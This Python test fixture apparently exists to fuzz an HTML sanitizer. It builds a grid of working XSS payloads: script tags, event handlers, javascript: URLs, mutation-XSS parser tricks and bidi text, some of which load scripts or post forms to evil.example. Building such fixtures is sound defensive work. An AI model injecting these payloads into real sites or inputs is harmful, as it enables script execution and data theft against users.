# ruff: noqa: E501, PLW0108
"""Fifteen hundred pieces of hostile HTML: each vector in each carrier. Made here, of what browsers are known to fall
for: scripts, handlers, odd schemes, styles, mutation on a second parse, foreign content, text that turns around."""

from __future__ import annotations

import html
import json

VECTORS = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<ScRiPt >alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='JaVa\tScRiPt:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href=vbscript:x>x</a>",
    "<a href='//evil.example/\u202egpj.exe'>x</a>", "<a href='https://a.example' onclick=alert(1) style='position:fixed;inset:0'>x</a>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>", "<div style='background:url(//evil.example/x)'>x</div>", "<p style='width:expression(alert(1))'>x</p>",
    "<form action=//evil.example/><input name=x><button>go</button></form>", "<input autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<isindex action=javascript:alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml x?><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>", "<table><td background=javascript:alert(1)>x</table>",
    "<p title=\"`><img src=x onerror=alert(1)>\">x</p>", "<<img src=x onerror=alert(1)>>", "<img src='x' alt='\"><script>alert(1)</script>'>",
    "<p id=location name=cookie>x</p><a id=csrf name=csrf>x</a>", "<figure data-block='{\"kind\":\"embed\",\"url\":\"javascript:alert(1)\"}'></figure>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>", "<time datetime='\" onmouseover=alert(1) x=\"'>x</time>", "&lt;img src=x onerror=alert(1)&gt;",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}", "\u202e\u2066evil\u2069 \u200f\u061c x", "x\u2028alert(1)\u2029y\ufeff\x00", "<p>" + "<b>" * 60 + "deep",
]  # fmt: skip


def _block(**block: str) -> str:
    return f"<figure data-block='{html.escape(json.dumps(block), quote=True)}'></figure>"


CARRIERS = [
    lambda v: v,
    lambda v: f"<p>before {v} after</p>",
    lambda v: f"<p><em>{v}</em></p>",
    lambda v: f"<h3>{v}</h3>",
    lambda v: f"<ul><li>{v}</li><li>more</li></ul>",
    lambda v: f"<table><caption>{v}</caption><tr><th>{v}</th></tr><tr><td>{v}</td></tr></table>",
    lambda v: f"<blockquote>{v}<footer>{v}, role</footer></blockquote>",
    lambda v: f'<blockquote data-speaker="{html.escape(v)}" data-role="{html.escape(v)}"><p>said</p></blockquote>',
    lambda v: _block(kind="photo", caption=v, credit=v, alt=v, origin="https://a.example/x.jpg"),
    lambda v: _block(kind="card", headline=v, topic=v, date=v, url="https://a.example/"),
    lambda v: _block(kind="embed", url="https://a.example/", provider=v, title=v),
    lambda v: f'<p><a href="https://a.example/?{html.escape(v)}">{v}</a></p>',
    lambda v: f'<p><abbr title="{html.escape(v)}">x</abbr></p>',
    lambda v: f"<svg><desc>{v}</desc></svg>",
    lambda v: f"<math><mi>{v}</mi></math>",
    lambda v: f"<svg></p><style><a title='</style>{v}'></svg>",
    lambda v: f"<form><math><mtext></form><form><mglyph><style></math>{v}",
    lambda v: f"<!-- {v} --!>{v}",
    lambda v: f"<p title='{v}'>{v}</p>",
    lambda v: v.upper(),
    lambda v: html.escape(v),
    lambda v: html.escape(html.escape(v)),
    lambda v: "".join(f"&#{ord(letter)};" for letter in v),
    lambda v: f"<p>{v[: len(v) // 2]}</p><p>{v[len(v) // 2 :]}</p>",
    lambda v: f"<b><p>{v}</b></p><i>{v}",
]  # fmt: skip

PAYLOADS = [carrier(vector) for vector in VECTORS for carrier in CARRIERS]
